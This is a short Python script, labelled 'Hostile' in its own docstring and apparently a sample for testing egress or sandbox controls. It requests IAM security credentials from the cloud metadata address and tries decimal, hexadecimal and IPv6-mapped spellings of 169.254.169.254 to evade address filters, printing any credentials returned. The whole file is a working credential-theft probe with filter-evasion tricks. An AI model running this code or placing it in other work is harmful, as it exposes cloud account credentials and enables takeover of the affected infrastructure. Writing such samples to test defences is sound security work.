"""Hostile: asks the cloud's metadata address for the machine's credentials."""

import urllib.error
import urllib.request

PATH = "/latest/meta-data/iam/security-credentials/"
SPELLINGS = (
    "169.254.169.254",
    "2852039166",
    "0xa9fea9fe",
    "[::ffff:169.254.169.254]",
)

for spelling in SPELLINGS:
    try:
        with urllib.request.urlopen(f"http://{spelling}{PATH}", timeout=5) as page:
            print(page.read(4096).decode("utf-8", "replace"))
    except urllib.error.HTTPError as refusal:
        print(f"{spelling}: refused with {refusal.code}")
    except OSError as problem:
        print(f"{spelling}: {type(problem).__name__}")

raise SystemExit("no credentials")
